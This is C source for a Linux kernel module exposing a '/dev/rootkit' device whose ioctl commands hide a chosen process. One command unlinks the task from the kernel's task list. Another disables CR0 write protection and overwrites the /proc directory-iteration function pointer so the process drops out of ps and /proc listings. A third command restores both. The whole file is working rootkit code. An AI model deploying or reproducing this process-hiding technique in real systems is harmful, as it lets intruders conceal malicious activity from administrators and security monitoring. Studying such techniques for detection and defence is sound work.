// /dev/rootkit: hides a process in the two classic ways. "Unlink" takes it out of the kernel's list of tasks (direct kernel object
// manipulation); the scheduler does not use that list. "Filter" makes /proc leave it out, so that ps does not show it: a function
// pointer in read-only data is replaced.
#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include "drivers.h"
#include "requests.h"

static struct task_struct *unlinked;
static int hidden_pid;
static int (**slot)(struct file *, struct dir_context *);
static int (*original)(struct file *, struct dir_context *);

struct filter {
    struct dir_context context;
    struct dir_context *caller;
};

static bool pass(struct dir_context *context, const char *name, int length, loff_t at, u64 inode, unsigned type) {
    struct filter *filter = container_of(context, struct filter, context);
    char pid[12];
    int size = snprintf(pid, sizeof pid, "%d", hidden_pid);
    if (size == length && !memcmp(name, pid, size)) return true;
    filter->caller->pos = context->pos;
    return filter->caller->actor(filter->caller, name, length, at, inode, type);
}

static int list_others(struct file *file, struct dir_context *caller) {
    struct filter filter = {.context = {.actor = pass, .pos = caller->pos}, .caller = caller};
    int result = original(file, &filter.context);
    caller->pos = filter.context.pos;
    return result;
}

// The kernel's own write_cr0 does not let go of write protection.
static void write_protected(int (*function)(struct file *, struct dir_context *)) {
    unsigned long cr0, flags;
    local_irq_save(flags);
    asm volatile("mov %%cr0, %0" : "=r"(cr0));
    asm volatile("mov %0, %%cr0" ::"r"(cr0 & ~0x10000ul) : "memory");
    *slot = function;
    asm volatile("mov %0, %%cr0" ::"r"(cr0) : "memory");
    local_irq_restore(flags);
}

static int filter_proc(int pid) {
    struct file *proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
    if (IS_ERR(proc)) return PTR_ERR(proc);
    hidden_pid = pid;
    if (!slot) {
        slot = (void *)&proc->f_op->iterate_shared;
        original = *slot;
        write_protected(list_others);
    }
    filp_close(proc, NULL);
    return 0;
}

static int unlink(int pid) {
    struct task_struct *task;
    if (unlinked) return -EBUSY;
    task = get_pid_task(find_vpid(pid), PIDTYPE_TGID);
    if (!task) return -ESRCH;
    unlinked = task;
    local_irq_disable();
    list_del_init(&task->tasks);
    local_irq_enable();
    return 0;
}

void rootkit_restore(void) {
    if (slot) write_protected(original);
    slot = NULL;
    if (!unlinked) return;
    local_irq_disable();
    list_add_tail(&unlinked->tasks, &init_task.tasks);
    local_irq_enable();
    put_task_struct(unlinked);
    unlinked = NULL;
}

static long control(struct file *file, unsigned request, unsigned long pid) {
    switch (request) {
    case ROOTKIT_UNLINK:
        return unlink(pid);
    case ROOTKIT_FILTER:
        return filter_proc(pid);
    case ROOTKIT_RESTORE:
        rootkit_restore();
        return 0;
    default:
        return -EINVAL;
    }
}

const struct file_operations rootkit_operations = {.owner = THIS_MODULE, .unlocked_ioctl = control};
